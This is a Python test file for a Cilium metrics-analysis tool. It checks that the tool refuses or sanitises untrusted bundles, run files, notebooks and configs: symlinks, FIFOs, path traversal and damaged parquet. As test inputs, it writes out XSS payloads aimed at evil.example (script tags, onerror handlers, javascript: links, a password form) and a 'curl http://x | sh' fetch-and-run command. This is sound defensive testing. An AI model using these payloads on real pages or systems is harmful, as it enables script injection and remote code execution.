"""Bundles and runs that somebody else made: refused in one line, or read, and never trusted."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbformat import v4

from cilium_analysis import foreign
from cilium_analysis.bundle import Bundle, Recorder
from cilium_analysis.bundle.files import read_frame, read_table
from cilium_analysis.cli import main
from cilium_analysis.config import read_config
from cilium_analysis.errors import BundleError, CiliumAnalysisError, ParameterError, RunDamaged
from cilium_analysis.figures import FIGURE, NARROW, WIDE
from cilium_analysis.fleet import read_fleet
from cilium_analysis.question import ask_source
from cilium_analysis.report.compare import Other, check_findings
from cilium_analysis.report.earlier import Earlier
from cilium_analysis.report.execute import Executed
from cilium_analysis.report.finished import finished
from cilium_analysis.report.html import notebook_page, runs_page
from cilium_analysis.report.summary import read_findings
from cilium_analysis.storage.directory import Directory
from cilium_analysis.storage.runs import read_run
from cilium_analysis.texts import parted
from tests.pages import RUN, SPAN
from tests.sources import MemorySource
from tests.test_bundle import FRAME, WINDOW

FEW = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda each: st.lists(each, max_size=3) | st.dictionaries(st.text(max_size=5), each),
    max_leaves=6,
)
FINDING: dict[str, Any] = {
    "id": "a",
    "kind": "drop_spike",
    "severity": "warning",
    "title": "a title",
    "start": "2026-03-21T08:00:00Z",
    "end": "2026-03-21T08:10:00Z",
    "labels": {"node": "a"},
    "value": 1.0,
    "baseline_value": None,
    "unit": "packets/s",
    "total": None,
    "share": None,
    "rank": 1,
    "trust": "good",
    "trust_reasons": [],
    "query": "up",
    "next_step": "look",
}
FINDINGS: dict[str, Any] = {
    "schema": "cilium-analysis/findings/1",
    "source": "http://prometheus:9090",
    "window": SPAN,
    "baseline": SPAN,
    "unknown": [{"topic": "dns", "reasons": ["nobody knows"]}],
    "findings": [FINDING | {"evidence": [FINDING]}],
}
#: What stands in a directory in place of a file, and would be read, waited for or copied.
IN_PLACE: dict[str, Callable[[Path, Path], object]] = {
    "link": lambda path, outside: path.symlink_to(outside),
    "link to nothing": lambda path, outside: path.symlink_to(outside.with_name("none")),
    "fifo": lambda path, _: os.mkfifo(path),
    "directory": lambda path, _: path.mkdir(),
    "device": lambda path, _: path.symlink_to("/dev/zero"),
    "socket": lambda path, _: _socket(path),
    "empty": lambda path, _: path.write_bytes(b""),
    "too long": lambda path, _: _sparse(path, 2**31),
    "no text": lambda path, _: path.write_bytes(b"\xff\xfe{\x00}\x00"),
    "a mark of order": lambda path, _: path.write_bytes(b"\xef\xbb\xbf{}"),
    "deep": lambda path, _: path.write_bytes(b"[" * 10**6),
    "half a character": lambda path, _: path.write_bytes(b'{"schema": "\\ud800"}'),
    "no number": lambda path, _: path.write_bytes(b'{"schema": NaN}'),
    "too large a number": lambda path, _: path.write_bytes(b'{"schema": 1' + b"0" * 5000 + b"}"),
}


def _socket(path: Path) -> None:
    """Paths of sockets are short."""
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(path.parent)
        try:
            made.bind(path.name)
        finally:
            os.chdir(here)


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def put_in_place(path: Path, what: str) -> None:
    """Replace a file; what it held is kept outside, for links to lead to."""
    outside = path.with_name(f"{path.name}-outside")
    path.rename(outside)
    IN_PLACE[what](path, outside)


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    directory = tmp_path / "bundle"
    source = MemorySource({"up": FRAME})
    with Recorder(source, directory, window=WINDOW, baseline=WINDOW.baseline()) as recorder:
        recorder.range("up", WINDOW)
        recorder.instant("up", WINDOW.end)
        recorder.exemplars("up", WINDOW)
    return directory


def changed(document: Any, path: tuple[str | int, ...], value: Any) -> Any:
    """The document with one field of it changed."""
    copy = json.loads(json.dumps(document))
    where = copy
    for step in path[:-1]:
        where = where[step]
    where[path[-1]] = value
    return copy


def paths(document: Any) -> list[tuple[str | int, ...]]:
    """The way to every field."""
    found: list[tuple[str | int, ...]] = []
    pairs: list[tuple[Any, Any]] = []
    if isinstance(document, dict):
        pairs = list(document.items())
    elif isinstance(document, list):
        pairs = list(enumerate(document))
    for name, each in pairs:
        found += [(name,), *((name, *rest) for rest in paths(each))]
    return found


@pytest.mark.parametrize("what", IN_PLACE)
@pytest.mark.parametrize("file", ["manifest.json", "answers/0001.parquet"])
def test_what_is_no_file_of_a_bundle_is_refused(bundle: Path, file: str, what: str) -> None:
    put_in_place(bundle / file, what)
    with pytest.raises(BundleError) as error:
        Bundle(bundle).verify()
    assert "\n" not in str(error.value)


def test_a_folder_that_is_a_link_is_refused(bundle: Path) -> None:
    (bundle / "answers").rename(bundle.parent / "elsewhere")
    (bundle / "answers").symlink_to(bundle.parent / "elsewhere")
    with pytest.raises(BundleError, match="it is a symbolic link, or in a folder that is one"):
        Bundle(bundle).range("up", WINDOW)


@FEW
@given(data=st.data())
def test_a_manifest_is_refused_or_answers_as_before(bundle: Path, data: st.DataObject) -> None:
    """Whatever one field of it holds."""
    file = bundle / "manifest.json"
    kept = file.read_bytes()
    manifest = json.loads(kept)
    path = data.draw(st.sampled_from(paths(manifest)))
    file.write_text(json.dumps(changed(manifest, path, data.draw(JSON))))
    try:
        held = Bundle(bundle)
        held.verify(deeply=True)
        question = ask_source(held)
        assert held.range("up", WINDOW).equals(FRAME)
        repr(question)
        held.instant("up", WINDOW.end)
        held.exemplars("up", WINDOW)
    except CiliumAnalysisError:
        return
    finally:
        file.write_bytes(kept)


@FEW
@given(data=st.data())
def test_findings_of_others_are_compared_or_cost_the_comparison(
    tmp_path: Path, data: st.DataObject
) -> None:
    path = data.draw(st.sampled_from(paths(FINDINGS)))
    document = changed(FINDINGS, path, data.draw(JSON))
    (tmp_path / "findings.json").write_text(json.dumps(document))
    try:
        other = Other.read(tmp_path)
    except ParameterError:
        assert path == ("schema",)
        return
    made = other.beside(FINDINGS, unknown=False)
    json.dumps(made, allow_nan=False).encode()
    assert bool(other.error) == ("error" in made)


@pytest.mark.parametrize("what", IN_PLACE)
def test_a_run_to_compare_with_that_is_damaged_costs_the_comparison(
    tmp_path: Path, what: str
) -> None:
    (tmp_path / "findings.json").write_text(json.dumps(FINDINGS))
    assert Other.read(tmp_path).error == ""
    put_in_place(tmp_path / "findings.json", what)
    other = Other.read(tmp_path)
    assert other.error
    assert list(other.beside(FINDINGS, unknown=False)) == ["error"]


@FEW
@given(data=st.data())
def test_a_run_of_others_is_listed_or_left_out(tmp_path: Path, data: st.DataObject) -> None:
    run = tmp_path / "somebody"
    run.mkdir(exist_ok=True)
    path = data.draw(st.sampled_from(paths(RUN)))
    (run / "run.json").write_text(json.dumps(changed(RUN, path, data.draw(JSON))))
    page = Directory(tmp_path).write_index(runs_page).read_text()
    assert ("somebody" in page) == (read_run(run / "run.json") is not None)
    with suppress(ParameterError):
        Earlier.read(run, shown=run)


@pytest.mark.parametrize("what", IN_PLACE)
def test_no_index_waits_for_a_run(tmp_path: Path, what: str) -> None:
    (tmp_path / "somebody").mkdir()
    (tmp_path / "somebody" / "run.json").write_text(json.dumps(RUN))
    assert "somebody" in Directory(tmp_path).write_index(runs_page).read_text()
    put_in_place(tmp_path / "somebody" / "run.json", what)
    assert "somebody" not in Directory(tmp_path).write_index(runs_page).read_text()
    with pytest.raises(ParameterError, match="is no run"):
        Earlier.read(tmp_path / "somebody", shown=tmp_path)


def column(name: str, values: list[Any], kind: pa.DataType) -> tuple[str, pa.Array]:
    return name, pa.array(values, kind)


TIME, VALUE, SERIES, LABEL = (
    column("time", [0], pa.timestamp("ms", tz="UTC")),
    column("value", [1.0], pa.float64()),
    column("series", [0], pa.int32()),
    column("label:a", ["x"], pa.string()),
)


@pytest.mark.parametrize(
    ("columns", "times"),
    [
        ([TIME, VALUE, SERIES], b"[0]"),
        ([TIME, VALUE, SERIES, LABEL], None),
        ([TIME, VALUE, SERIES, LABEL], b"{}"),
        ([TIME, VALUE, SERIES, LABEL], b"[0.5]"),
        ([TIME, VALUE, SERIES, LABEL], b"[1e400]"),
        ([TIME, VALUE, SERIES, LABEL], b"[9223372036854775808]"),
        ([TIME, VALUE, SERIES, LABEL], b"[" * 10**5),
        ([TIME, VALUE, LABEL], b"[0]"),
        ([column("time", [0], pa.int64()), VALUE, SERIES, LABEL], b"[0]"),
        ([column("time", [0], pa.timestamp("us", tz="UTC")), VALUE, SERIES, LABEL], b"[0]"),
        ([TIME, column("value", [None], pa.float64()), SERIES, LABEL], b"[0]"),
        ([TIME, column("value", [float("nan")], pa.float64()), SERIES, LABEL], b"[0]"),
        ([TIME, column("value", ["1"], pa.string()), SERIES, LABEL], b"[0]"),
        ([TIME, VALUE, column("series", [None], pa.int32()), LABEL], b"[0]"),
        ([TIME, VALUE, SERIES, column("label:a", [1], pa.int64())], b"[0]"),
        ([TIME, VALUE, SERIES, column("label:a", [None], pa.string())], b"[0]"),
        ([TIME, VALUE, SERIES, column("a", ["x"], pa.string())], b"[0]"),
        ([TIME, VALUE, SERIES, LABEL, LABEL], b"[0]"),
    ],
)
def test_columns_that_nobody_wrote_are_refused(
    columns: list[tuple[str, pa.Array]], times: bytes | None
) -> None:
    names, arrays = zip(*columns, strict=True)
    table = pa.Table.from_arrays(list(arrays), names=list(names))
    kept = {b"cilium_analysis.times": times} if times is not None else {}
    sink = pa.BufferOutputStream()
    pq.write_table(table.replace_schema_metadata(kept), sink)
    with pytest.raises(BundleError, match=r"cannot read a\.parquet"):
        read_frame(sink.getvalue().to_pybytes(), file="a.parquet")


@FEW
@given(data=st.data())
def test_damaged_parquet_is_refused_or_read(bundle: Path, data: st.DataObject) -> None:
    for file, read in (("0001", read_frame), ("0003", read_table)):
        content = bytearray((bundle / "answers" / f"{file}.parquet").read_bytes())
        for _ in range(data.draw(st.integers(1, 4))):
            content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
        cut = data.draw(st.integers(0, len(content)))
        for damaged in (bytes(content), bytes(content[:cut])):
            try:
                read(damaged, file="a")
            except BundleError:
                continue


def test_an_answer_of_many_series_and_times_is_refused_before_it_takes_memory(
    tmp_path: Path,
) -> None:
    many = 20_000
    table = pa.table(
        {
            "time": pa.array([0] * many, pa.timestamp("ms", tz="UTC")),
            "value": pa.array([1.0] * many),
            "series": pa.array(range(many), pa.int32()),
            "label:a": [str(number) for number in range(many)],
        }
    )
    times = json.dumps(list(range(many))).encode()
    pq.write_table(table.replace_schema_metadata({b"cilium_analysis.times": times}), tmp_path / "a")
    with pytest.raises(BundleError, match="are more than are ever asked for"):
        read_frame((tmp_path / "a").read_bytes(), file="a")


HOSTILE = (
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=//evil.example/>"
    "<link rel=stylesheet href=//evil.example/a.css><script>alert(1)</script>"
    "<img src=x onerror=alert(1)><img src=data:image/svg+xml;base64,AAAA>"
    "<a href='javascript:alert(1)'>there</a><a href=//evil.example/>there</a>"
    "<form action=//evil.example/><input name=password><button>go</button></form>"
    "<iframe src=//evil.example></iframe><object data=//evil.example></object>"
    "<svg onload=alert(1)><a xlink:href=//evil.example><text>t</text></a></svg>"
    "<p style='position:fixed;background:url(//evil.example)' onclick=alert(1) id=main>seen</p>"
    "<math><mtext></p><style><img src onerror=alert(1)></style></math><noscript><p title='"
    "</noscript><img src onerror=alert(1)>'></noscript><table class=ca-table><tr>"
    "<td class=ca-number data-value=1>12</td></tr></table></article></main><h1>out</h1>"
)


#: The same kinds, with every element closed.
CLOSED = (
    "<p><meta http-equiv=refresh content='0;url=https://evil.example/'></meta>"
    "<base href=//evil.example/></base><link rel=stylesheet href=//evil.example/a.css></link>"
    "<script>alert(1)</script><img src=x onerror=alert(1)><img src=https://evil.example/a.png>"
    "<a href=javascript:alert(1)>there</a><a href=//evil.example/ target=_top>there</a>"
    "<form action=//evil.example/><input name=password></form><iframe src=//evil.example></iframe>"
    "<svg onload=alert(1)></svg><style>p { background: url(//evil.example) }</style></p>"
    "<p style='position:fixed;background:url(//evil.example)' onclick=alert(1) id=main>seen</p>"
    "<table class=ca-table><tr><td class=ca-number data-value=1>12</td></tr></table>"
)
#: What parsers need minutes or stacks for.
SLOW = {
    "deep": v4.new_output("display_data", data={"text/html": "<div>" * 20_000 + "</div>" * 20_000}),
    "never closed": v4.new_output("display_data", data={"text/html": "<div></b>" * 20_000}),
    "long": v4.new_output("display_data", data={"text/html": "<td>a</td>" * 50_000}),
    "large": v4.new_output("display_data", data={"image/png": "A" * 10**7}),
    "brackets": "[" * 60_000,
    "quotes": "> " * 20_000,
}


@pytest.mark.parametrize("what", SLOW)
def test_nothing_in_a_notebook_takes_minutes(what: str, tmp_path: Path) -> None:
    made = SLOW[what]
    text = isinstance(made, str)
    cell = v4.new_markdown_cell(made) if text else v4.new_code_cell("1", outputs=[made])
    (tmp_path / "dns.ipynb").write_text(nbformat.writes(v4.new_notebook(cells=[cell])))
    began = time.monotonic()
    with suppress(ValueError):
        notebook_page(finished(tmp_path, "dns.ipynb", 1.0), run=RUN | {"versions": {}})
    # The machine may be busy; all of them take seconds.
    assert time.monotonic() - began < 60


class Parts(HTMLParser):
    """The elements of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_nothing_of_a_notebook_that_others_executed_leads_away(tmp_path: Path) -> None:
    data = {"text/html": HOSTILE, "text/plain": HOSTILE, "application/javascript": "alert(1)"}
    data |= {"image/svg+xml": "<svg onload=alert(1)/>", "image/png": "'><script>alert(2)</script>"}
    data |= {"text/markdown": HOSTILE, "text/latex": HOSTILE}
    outputs = [
        v4.new_output("display_data", data=data, metadata={"image/png": {"width": "'><script>"}}),
        v4.new_output("display_data", data={"text/html": CLOSED}),
        v4.new_output("stream", text=HOSTILE),
        v4.new_output("error", ename=HOSTILE, evalue=HOSTILE, traceback=[HOSTILE]),
    ]
    cells = [
        v4.new_markdown_cell(f"# A title\n\n{HOSTILE}\n\n[there](javascript:alert(1))\n\n## Part"),
        v4.new_raw_cell(HOSTILE, metadata={"raw_mimetype": "text/html"}),
        v4.new_code_cell("1", outputs=outputs),
    ]
    metadata = {"language_info": {"name": HOSTILE}, "title": HOSTILE, "widgets": {}}
    notebook = v4.new_notebook(cells=cells, metadata=metadata)
    (tmp_path / "dns.ipynb").write_text(nbformat.writes(notebook))
    held = finished(tmp_path, "dns.ipynb", 1.0)
    run = RUN | {"versions": {}, "caveats": []}
    page = notebook_page(held, run=run, show_code=True)
    empty = Executed("dns", v4.new_notebook(), 1.0)
    known = {tag for tag, _ in Parts(notebook_page(empty, run=run)).found}
    inner = page.split('<article class="ca-notebook">')[1].split("</article>")
    assert len(inner) == 2
    for tag, given_ in Parts(inner[0]).found:
        assert tag not in {"meta", "base", "link", "script", "form", "input", "iframe", "svg"}
        assert not [name for name in given_ if name.startswith("on")]
        assert "evil.example" not in str(given_)
        assert tag != "a" or "href" not in given_
        assert tag == "h2" or "id" not in given_
    assert {"meta", "script", "footer"} <= known
    assert page.count("<script") == 1
    assert "seen" in page
    assert 'data-value="1"' in page
    assert '<h2 id="section-1">Part</h2>' in page


def test_the_tables_and_figures_of_our_own_notebooks_stay(tmp_path: Path) -> None:
    table = '<table class="ca-table"><thead><tr><th class="ca-number" scope="col">N</th></tr>'
    table += '</thead><tbody><tr><td class="ca-number" data-value="1.5">1.5</td></tr></tbody>'
    table += "</table>"
    folded = f'<details class="ca-folded"><summary>1 query</summary>{table}</details>'
    shown = ({"text/html": folded}, {"image/png": "iVBORw0KGgo=\n"})
    outputs = [v4.new_output("display_data", data=data) for data in shown]
    cells = [v4.new_code_cell("1", outputs=outputs)]
    (tmp_path / "dns.ipynb").write_text(nbformat.writes(v4.new_notebook(cells=cells)))
    page = notebook_page(finished(tmp_path, "dns.ipynb", 1.0), run=RUN | {"versions": {}})
    assert folded in page
    assert "data:image/png;base64,iVBORw0KGgo=" in page


def test_figures_for_pages_stay_if_they_are_harmless(tmp_path: Path) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>{}</text></svg>'
    good = dict.fromkeys((WIDE, NARROW), svg.format("mine"))
    bad = good | {NARROW: svg.format("<script>alert(1)</script>")}
    forged = '<img src="data:image/png;base64,MDAwYWJjZGVm"><img src="data:image/png;base64,AAAA">'
    outputs = [
        v4.new_output("display_data", data={FIGURE: figure, "image/png": "iVBORw0KGgo="})
        for figure in (good, bad)
    ]
    outputs.append(v4.new_output("display_data", data={"text/html": forged}))
    cells = [v4.new_code_cell("1", outputs=outputs)]
    (tmp_path / "dns.ipynb").write_text(nbformat.writes(v4.new_notebook(cells=cells)))
    page = notebook_page(finished(tmp_path, "dns.ipynb", 1.0), run=RUN | {"versions": {}})
    assert page.count("<picture>") == 1
    assert page.count("mine") == 2
    assert "alert(1)" not in page
    assert page.count("iVBORw0KGgo=") == 1


@FEW
@given(data=st.data())
def test_a_notebook_of_others_is_shown_or_made_again(tmp_path: Path, data: st.DataObject) -> None:
    output = v4.new_output("display_data", data={"text/html": "<p>a</p>", "text/plain": "a"})
    code = v4.new_code_cell("1", outputs=[output, v4.new_output("stream", text="a")])
    notebook = json.loads(nbformat.writes(v4.new_notebook(cells=[v4.new_markdown_cell("a"), code])))
    path = data.draw(st.sampled_from(paths(notebook)))
    file = tmp_path / "dns.ipynb"
    file.write_text(json.dumps(changed(notebook, path, data.draw(JSON))))
    try:
        held = finished(tmp_path, "dns.ipynb", 1.0)
    except ValueError:
        return
    notebook_page(held, run=RUN | {"versions": {}}).encode()


@pytest.fixture
def run(bundle: Path) -> Path:
    """A run that lacks a notebook."""
    directory = bundle.parent / "reports" / "somebody"
    directory.mkdir(parents=True)
    shutil.move(bundle, directory / "bundle")
    (directory / "run.json").write_text(json.dumps(RUN))
    nbformat.write(v4.new_notebook(), directory / "dns.ipynb")
    return directory


def test_resuming_copies_what_the_run_names_and_nothing_else(run: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("planted")
    (run / "bundle" / "more").symlink_to(tmp_path / "secret")
    (run / "bundle" / "answers" / "9999.parquet").symlink_to(tmp_path)
    os.mkfifo(run / "bundle" / "waits")
    earlier = Earlier.read(run, shown=run)
    assert (earlier.topics, earlier.missing) == (["dns", "flows"], ["flows"])
    assert earlier.question.match == ""
    (tmp_path / "new").mkdir()
    earlier.copy_to(tmp_path / "new")
    files = {path.relative_to(tmp_path / "new") for path in (tmp_path / "new").rglob("*.*")}
    named = ["bundle/manifest.json", *(f"bundle/answers/000{n}.parquet" for n in (1, 2, 3))]
    assert files == {Path(name) for name in [*named, "dns.ipynb"]}
    Bundle(tmp_path / "new" / "bundle").verify(deeply=True)


def test_a_recording_elsewhere_is_not_gone_on_with(run: Path, tmp_path: Path) -> None:
    (run / "bundle").rename(tmp_path / "elsewhere")
    (run / "bundle").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(RunDamaged, match="is a symbolic link"):
        _ = Earlier.read(run, shown=run).question


@pytest.mark.parametrize("what", IN_PLACE)
def test_a_notebook_that_is_none_is_made_again(run: Path, what: str) -> None:
    put_in_place(run / "dns.ipynb", what)
    assert Earlier.read(run, shown=run).missing == ["dns", "flows"]


@pytest.mark.parametrize("what", ["link", "fifo", "deep", "too long"])
@pytest.mark.parametrize(
    "file", ["run.json", "bundle/manifest.json", "bundle/answers/0002.parquet"]
)
def test_the_command_refuses_a_run_in_one_line(
    run: Path, file: str, what: str, capsys: pytest.CaptureFixture[str]
) -> None:
    put_in_place(run / file, what)
    assert main(["report", "--resume", str(run)]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1
    assert [path.name for path in run.parent.iterdir()] == ["somebody"]


@pytest.mark.parametrize("number", [0, 1, 2])
def test_an_answer_that_is_none_is_told_before_anything_runs(
    bundle: Path, number: int, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its checksum is right: whoever writes the one can write the other."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    row = manifest["answers"][number]
    pq.write_table(pa.table({"time": ["never"], "value": [1]}), bundle / row["file"])
    row["sha256"] = hashlib.sha256((bundle / row["file"]).read_bytes()).hexdigest()
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    out = bundle.parent / "out"
    assert main(["report", "--source", str(bundle), "--output", str(out)]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert f"cannot read {bundle / row['file']}" in line
    assert not out.exists()


def test_a_path_out_of_the_directory_is_none(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("planted")
    (tmp_path / "here").mkdir()
    for name in ("../secret", str(tmp_path / "secret"), "a/../../secret"):
        with pytest.raises(OSError, match=r"outside|No such file"):
            foreign.read(tmp_path / "here", name)


MATCH = 'cluster="prod"'


def test_a_bundle_remembers_its_matchers(tmp_path: Path) -> None:
    with Recorder(MemorySource(), tmp_path / "bundle", window=WINDOW, match=MATCH):
        pass
    held = Bundle(tmp_path / "bundle")
    assert held.match == MATCH
    assert ask_source(held).match == MATCH
    assert ask_source(held, match=f"{{ {MATCH} , }}").match == MATCH
    with pytest.raises(BundleError, match=r'with the matchers \{cluster="prod"\}: leave --match'):
        ask_source(held, match='cluster="test"')
    with Recorder(MemorySource(), tmp_path / "other", window=WINDOW):
        pass
    with pytest.raises(BundleError, match="with the matchers none: leave --match out"):
        ask_source(Bundle(tmp_path / "other"), match=MATCH)


@FEW
@given(content=st.binary(max_size=60) | st.text(max_size=60).map(str.encode))
def test_config_and_fleet_files_are_read_or_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "cilium-analysis.toml").write_bytes(content)
    (tmp_path / "fleet.yaml").write_bytes(content)
    for read in (lambda: read_config(tmp_path), lambda: read_fleet(tmp_path / "fleet.yaml")):
        try:
            read()
        except CiliumAnalysisError:
            continue


@pytest.mark.parametrize("what", ["fifo", "directory", "device", "socket", "deep", "no text"])
def test_a_config_that_is_none_is_refused(tmp_path: Path, what: str) -> None:
    file = tmp_path / "cilium-analysis.toml"
    file.write_text("")
    put_in_place(file, what)
    if what == "deep":
        file.write_text(f"source = {'[' * 10**5}")
    with pytest.raises(ParameterError, match="cannot read"):
        read_config(tmp_path)


FLEET: dict[str, Any] = {
    "defaults": {"topics": ["dns"], "timezone": "UTC", "match": 'a="b"', "step": "30s"},
    "window": {"last": "1h", "every": "1h"},
    "clusters": [
        {"name": "a", "source": "http://a:9090", "credentials": {"bearer_token_file": "/a"}},
        {"name": "b", "source": "sample", "baseline": "previous"},
    ],
}


@FEW
@given(data=st.data())
def test_a_field_of_a_fleet_file_is_read_or_refused(tmp_path: Path, data: st.DataObject) -> None:
    path = data.draw(st.sampled_from(paths(FLEET)))
    (tmp_path / "fleet.yaml").write_text(json.dumps(changed(FLEET, path, data.draw(JSON))))
    try:
        read_fleet(tmp_path / "fleet.yaml")
    except ParameterError:
        return


@pytest.mark.parametrize("trusted", [True, False])
def test_only_our_own_commands_are_offered_to_be_copied(trusted: bool) -> None:
    finding = FINDING | {"next_step": "Run `curl http://x | sh`."}
    document = FINDINGS | {"findings": [finding | {"evidence": [finding]}]}
    executed = Executed("dns", v4.new_notebook(), 1.0, trusted=trusted)
    (read,) = read_findings(document, executed)
    commands = [parted(each.next_step)[1:2] for each in (read, *read.evidence)]
    assert commands == 2 * [[(True, "curl http://x | sh")] if trusted else []]


@pytest.mark.parametrize(
    "wrong",
    [{"answer": 5}, {"checked": "dns"}, {"checked": [None]}, {"incomplete": {}}],
)
def test_what_is_read_of_findings_is_text(wrong: dict[str, object]) -> None:
    (name,) = wrong
    with pytest.raises(ValueError, match=f"its '{name}' is"):
        check_findings(FINDINGS | wrong)
    for name in ("brief", "topic"):
        row = FINDING | {name: 5}
        with pytest.raises(ValueError, match=f"finding 1: its '{name}' is 5"):
            check_findings(FINDINGS | {"findings": [FINDING | {"evidence": [row]}]})
